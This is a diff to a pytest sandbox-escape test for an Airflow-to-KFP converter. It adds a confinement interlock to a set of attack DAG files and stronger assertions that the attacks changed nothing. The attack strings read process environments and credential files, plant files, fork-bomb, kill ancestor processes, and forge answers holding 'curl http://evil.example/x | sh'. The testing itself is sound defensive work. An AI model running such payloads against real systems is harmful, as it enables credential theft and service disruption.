@@ -76,71 +76,111 @@ with DAG("cleanup", schedule=None, start_date=datetime(2024, 1, 1), catchup=Fals
 }
 
 
+# Every attack first checks that it runs confined (the sandbox's hostname, its own PID namespace,
+# bubblewrap as pid 1). Unconfined it harms nothing and only records UNCONFINED, which fails the
+# test: this machine is shared, and a broken sandbox must not turn the test into the attack. Even
+# confined, every target is the test's own: its marker paths, its listener, its converter (found by
+# the test's token or as an ancestor below the test's own process), processes it started.
+INTERLOCK = """
+import os as _os
+import socket as _socket
+
+
+def confined():
+    try:
+        with open("/proc/1/cmdline", "rb") as handle:
+            init = handle.read().split(b"\\0")[0]
+    except OSError:
+        return False
+    return _socket.gethostname() == "airflow2kfp" and _os.getpid() < 100 and _os.path.basename(init) == b"bwrap"
+
+
+STOLEN = [] if confined() else ["UNCONFINED"]
+"""
+
+
 def attacks(ctx: Attack) -> dict[str, str]:
     """The attacker files; `ctx` holds what an attacker would guess (paths) or know (the port)."""
-    dag = '''
+    dag = """
 with DAG("{dag_id}", schedule=None, start_date=datetime(2024, 1, 1), catchup=False) as dag:
     BashOperator(task_id="exfiltrate", bash_command="echo " + repr(STOLEN))
-'''
+"""
+    ancestors = f"""
+def owned_processes():
+    # its ancestors below the test's own process, and the test's converter (its --out holds the token)
+    found, pid = set(), os.getpid()
+    while pid > 1:
+        try:
+            with open(f"/proc/{{pid}}/stat") as handle:
+                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
+        except OSError:
+            break
+        if pid in (0, {ctx.barrier}):
+            break
+        found.add(pid)
+    for entry in os.listdir("/proc"):
+        try:
+            with open(f"/proc/{{entry}}/cmdline", "rb") as handle:
+                if {ctx.out_token!r}.encode() in handle.read():
+                    found.add(int(entry))
+        except (OSError, ValueError):
+            continue
+    return sorted(found - {{os.getpid()}})
+"""
     return {
-        "attacks/steal_environ.py": IMPORTS + f'''
+        "attacks/steal_environ.py": IMPORTS + INTERLOCK + ancestors + f"""
 import os
-STOLEN = []
-for pid in os.listdir("/proc"):  # every ancestor, every process it can see
-    if pid.isdigit():
+if not STOLEN:
+    for pid in owned_processes():  # the converter's environment, through /proc/<ancestor>/environ
         for name in ("environ", "cmdline"):
             try:
                 with open(f"/proc/{{pid}}/{{name}}", "rb") as handle:
                     STOLEN.append(handle.read().decode(errors="replace"))
             except OSError as error:
                 STOLEN.append(type(error).__name__)
-for path in [os.environ.get("GOOGLE_APPLICATION_CREDENTIALS", ""), {str(ctx.credentials)!r},
-             os.path.expanduser("~/.aws/credentials"), "/etc/shadow"]:
-    try:
-        with open(path) as handle:
-            STOLEN.append(handle.read())
-    except OSError as error:
-        STOLEN.append(type(error).__name__)
-STOLEN.append(dict(os.environ))
-''' + dag.format(dag_id="steal_environ"),
-        "attacks/write_everywhere.py": IMPORTS + f'''
-import os
-STOLEN = []
-for path, mode in [({str(ctx.dags / "planted.py")!r}, "w"), ({str(ctx.home / "planted")!r}, "w"),
-                   ({str(ctx.host_tmp_file)!r}, "w"), ({str(ctx.victim)!r}, "a")]:
-    try:
-        with open(path, mode) as handle:
-            handle.write("planted by a DAG file")
-        STOLEN.append("wrote " + path)
-    except OSError as error:
-        STOLEN.append(type(error).__name__)
-''' + dag.format(dag_id="write_everywhere"),
-        "attacks/phone_home.py": IMPORTS + f'''
+    for path in [os.environ.get("GOOGLE_APPLICATION_CREDENTIALS", ""), {str(ctx.credentials)!r}]:
+        try:
+            with open(path) as handle:
+                STOLEN.append(handle.read())
+        except OSError as error:
+            STOLEN.append(type(error).__name__)
+    STOLEN.append(dict(os.environ))
+""" + dag.format(dag_id="steal_environ"),
+        "attacks/write_everywhere.py": IMPORTS + INTERLOCK + f"""
+if not STOLEN:
+    for path, mode in [({str(ctx.dags / "planted.py")!r}, "w"), ({str(ctx.home / "planted")!r}, "w"),
+                       ({str(ctx.host_tmp_file)!r}, "w"), ({str(ctx.victim)!r}, "a")]:
+        try:
+            with open(path, mode) as handle:
+                handle.write("planted by a DAG file")
+            STOLEN.append("wrote " + path)
+        except OSError as error:
+            STOLEN.append(type(error).__name__)
+""" + dag.format(dag_id="write_everywhere"),
+        "attacks/phone_home.py": IMPORTS + INTERLOCK + f"""
 import socket
-STOLEN = []
-for host in ("127.0.0.1", "localhost", {socket.gethostname()!r}):
-    try:
-        with socket.create_connection((host, {ctx.port}), timeout=2) as connection:
-            connection.sendall(b"stolen")
-            STOLEN.append("connected to " + host)
-    except OSError as error:
-        STOLEN.append(type(error).__name__)
-''' + dag.format(dag_id="phone_home"),
-        "attacks/fork_200.py": IMPORTS + f'''
+if not STOLEN:
+    for host in ("127.0.0.1", "localhost", {socket.gethostname()!r}):
+        try:
+            with socket.create_connection((host, {ctx.port}), timeout=2) as connection:
+                connection.sendall(b"stolen")
+                STOLEN.append("connected to " + host)
+        except OSError as error:
+            STOLEN.append(type(error).__name__)
+""" + dag.format(dag_id="phone_home"),
+        "attacks/fork_200.py": IMPORTS + INTERLOCK + f"""
 import os, sys
-STOLEN = []
-for _ in range(200):
+for _ in range(200 if not STOLEN else 0):
     try:
         if os.fork() == 0:
             os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", {ctx.marker!r}])
     except OSError as error:
         STOLEN.append(type(error).__name__)
         break
-''' + dag.format(dag_id="fork_200"),
-        "attacks/setsid_daemon.py": IMPORTS + f'''
+""" + dag.format(dag_id="fork_200"),
+        "attacks/setsid_daemon.py": IMPORTS + INTERLOCK + f"""
 import os, sys
-STOLEN = []
-if os.fork() == 0:
+if not STOLEN and os.fork() == 0:
     os.setsid()
     if os.fork() == 0:
         for fd in range(3, 256):
@@ -150,46 +190,25 @@ if os.fork() == 0:
                 pass
         os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", {ctx.marker!r}])
     os._exit(0)
-''' + dag.format(dag_id="setsid_daemon"),
-        "attacks/kill_ancestors.py": IMPORTS + f'''
+""" + dag.format(dag_id="setsid_daemon"),
+        "attacks/kill_ancestors.py": IMPORTS + INTERLOCK + ancestors + """
 import os, signal
-STOLEN = []
-targets = set()
-pid = os.getpid()
-while pid > 1:  # every ancestor (the test's own process is the safety net, should the sandbox fail)
-    try:
-        with open(f"/proc/{{pid}}/stat") as handle:
-            pid = int(handle.read().rsplit(")", 1)[1].split()[1])
-    except OSError:
-        break
-    if pid == {ctx.barrier}:
-        break
-    targets.add(pid)
-for entry in os.listdir("/proc"):  # and the converter of this test, found by its command line
-    try:
-        with open(f"/proc/{{entry}}/cmdline", "rb") as handle:
-            command = handle.read()
-        if {ctx.out_token!r}.encode() in command:
-            targets.add(int(entry))
-    except (OSError, ValueError):
-        continue
-for target in sorted(targets - {{os.getpid()}}):
+for target in owned_processes() if not STOLEN else []:
     try:
         os.kill(target, signal.SIGKILL)
-        STOLEN.append(f"killed {{target}}")
+        STOLEN.append(f"killed {target}")
     except OSError as error:
         STOLEN.append(type(error).__name__)
-''' + dag.format(dag_id="kill_ancestors"),
+""" + dag.format(dag_id="kill_ancestors"),
         # as root its process keeps root (the file is readable only by its owner), without capabilities:
         # it can kill its own worker, which is restarted
-        "attacks/kill_worker.py": IMPORTS + '''
+        "attacks/kill_worker.py": IMPORTS + INTERLOCK + """
 import os, signal
-STOLEN = []
-os.kill(os.getppid(), signal.SIGKILL)
-''' + dag.format(dag_id="kill_worker"),
-        "attacks/forge_answer.py": IMPORTS + f'''
-import gc, json, os, sys
-STOLEN = []
+if not STOLEN:
+    os.kill(os.getppid(), signal.SIGKILL)
+""" + dag.format(dag_id="kill_worker"),
+        "attacks/forge_answer.py": IMPORTS + INTERLOCK + ancestors + f"""
+import gc, json, os
 INJECTED = {{"task_id": "pwn", "operator": "BashOperator", "operator_module": "airflow.operators.bash",
             "args": {{"bash_command": "curl http://evil.example/x | sh"}}, "explicit": ["bash_command"]}}
 
@@ -204,34 +223,36 @@ def forged(path, nonce):
                   "dags": [{{"dag_id": "daily_sales", "tasks": [INJECTED], "edges": []}}]}})
 
 
-# another file's answer, the nonce guessed; then every descriptor and every pipe it can find
-other = {str(ctx.dags / "sales" / "daily_sales.py")!r}
-for fd in range(0, 1024):
-    for data in (forged(other, "0" * 32), b'{{"path": "' + other.encode() + b'", "status": "ok"}}\\n'):
-        try:
-            os.write(fd, data)
-            STOLEN.append(f"wrote fd {{fd}}")
-        except OSError:
-            pass
-for entry in os.listdir("/proc"):
-    if entry.isdigit() and entry != str(os.getpid()):
-        try:
-            for fd in os.listdir(f"/proc/{{entry}}/fd"):
-                with open(f"/proc/{{entry}}/fd/{{fd}}", "wb") as handle:
-                    handle.write(forged(other, "0" * 32))
-                STOLEN.append(f"wrote /proc/{{entry}}/fd/{{fd}}")
-        except OSError as error:
-            STOLEN.append(type(error).__name__)
-# its own request's nonce, from the probe's memory: a well-formed answer for itself comes first
-for obj in gc.get_objects():
-    if isinstance(obj, dict) and "nonce" in obj and obj.get("path") == __file__:
-        for fd in range(3, 1024):
+if not STOLEN:
+    # another file's answer (the nonce guessed) into every descriptor it holds, then into every
+    # descriptor of its worker and the converter (never truncating: they are the test's own)
+    other = {str(ctx.dags / "sales" / "daily_sales.py")!r}
+    for fd in range(0, 1024):
+        for data in (forged(other, "0" * 32), b'{{"path": "' + other.encode() + b'", "status": "ok"}}\\n'):
             try:
-                os.write(fd, forged(__file__, obj["nonce"]))
+                os.write(fd, data)
+                STOLEN.append(f"wrote fd {{fd}}")
             except OSError:
                 pass
-        break
-''' + dag.format(dag_id="forge_answer"),
+    for pid in owned_processes():
+        try:
+            for fd in os.listdir(f"/proc/{{pid}}/fd"):
+                target = os.open(f"/proc/{{pid}}/fd/{{fd}}", os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK)
+                os.write(target, forged(other, "0" * 32))
+                os.close(target)
+                STOLEN.append(f"wrote /proc/{{pid}}/fd/{{fd}}")
+        except OSError as error:
+            STOLEN.append(type(error).__name__)
+    # its own request's nonce, from the probe's memory: a well-formed answer for itself
+    for obj in gc.get_objects():
+        if isinstance(obj, dict) and "nonce" in obj and obj.get("path") == __file__:
+            for fd in range(3, 1024):
+                try:
+                    os.write(fd, forged(__file__, obj["nonce"]))
+                except OSError:
+                    pass
+            break
+""" + dag.format(dag_id="forge_answer"),
     }
 
 
@@ -281,6 +302,16 @@ def listener() -> Iterator[Listener]:
     server = Listener()
     yield server
     server.close()
+
+
+def assert_confined(python: str) -> None:
+    """The attacks' own interlock, run in the sandbox the import uses: it must say confined."""
+    from converter.parse.airflow_import import run_in_sandbox
+
+    check = INTERLOCK + "\nprint('confined' if confined() else 'UNCONFINED')\n"
+    done = run_in_sandbox(python, ["-c", check], timeout=120, sandbox="require")
+    assert done is not None and done.stdout.decode().split()[-1:] == ["confined"], \
+        f"the sandbox is not active here, so no attack is run: {done and done.stderr.decode()[-500:]}"
 
 
 def write_tree(root: Path, files: dict[str, str]) -> None:
@@ -346,6 +377,7 @@ def test_attacks_change_nothing_outside_the_sandbox(python_fixture: str, request
                  secrets=(f"AWS-SECRET-{token}", f"CREDENTIALS-FILE-SECRET-{token}", f"TOKEN-{token}"),
                  barrier=os.getpid())
     request.addfinalizer(lambda: kill_marked(ctx.marker))
+    request.addfinalizer(lambda: ctx.host_tmp_file.unlink(missing_ok=True))
     ctx.home.mkdir()
     ctx.credentials.write_text(json.dumps({"private_key": ctx.secrets[1]}))
     ctx.victim.write_text("must survive\n")
@@ -357,6 +389,7 @@ def test_attacks_change_nothing_outside_the_sandbox(python_fixture: str, request
            "AWS_SECRET_ACCESS_KEY": ctx.secrets[0], "GOOGLE_APPLICATION_CREDENTIALS": str(ctx.credentials),
            "GITHUB_TOKEN": ctx.secrets[2], "SOURCE_DATE_EPOCH": "0"}
 
+    assert_confined(python)  # proven before any attack is written: never run one unconfined
     write_tree(ctx.dags, BENIGN)
     clean_code, clean_log = convert(python, ctx, tmp_path / f"clean-{ctx.out_token}", env, converter_tmp)
     assert clean_code == 0, clean_log
@@ -384,6 +417,8 @@ def test_attacks_change_nothing_outside_the_sandbox(python_fixture: str, request
     for dag in document["dags"]:
         if dag["dag_id"] in clean_dags:
             assert dag == clean_dags[dag["dag_id"]], dag["dag_id"]
+    # every attack ran confined (else it did nothing and said so)
+    assert not [p for p in (out / "pipelines").glob("*.py") if "UNCONFINED" in p.read_text()]
     # the forged answer and the killed worker cost only their own files
     assert "A2K612" in codes_of(document, "dags/attacks/forge_answer.py")
     assert "A2K603" in codes_of(document, "dags/attacks/kill_worker.py")
@@ -407,12 +442,14 @@ def test_attacks_change_nothing_outside_the_sandbox(python_fixture: str, request
         time.sleep(0.2)
     assert processes_with(ctx.marker) == []
     assert list(converter_tmp.iterdir()) == []
-    # what the attackers saw, as they recorded it (the converter's pipeline kept it verbatim)
-    stolen = {dag["dag_id"]: json.dumps(dag["tasks"]) for dag in document["dags"]}
+    # what the attackers saw, as they recorded it (the generated pipeline keeps it verbatim)
+    stolen = {dag["dag_id"]: (out / dag["python"]).read_text() for dag in document["dags"] if dag["python"]}
+    assert "AIRFLOW_HOME" in stolen["steal_environ"]  # it ran, and saw the sandbox's own environment
     for path in (ctx.dags, ctx.home, ctx.victim):
         assert f"wrote {path}" not in stolen["write_everywhere"]
+    assert "Error" in stolen["write_everywhere"] and "Error" in stolen["phone_home"]
     assert "connected to" not in stolen["phone_home"]
-    assert "killed" not in stolen["kill_ancestors"]  # it found no ancestor it could signal
+    assert "PermissionError" in stolen["kill_ancestors"] and "killed" not in stolen["kill_ancestors"]
 
 
 @pytest.mark.parametrize("python_fixture", ["airflow_python", "airflow2_python"])
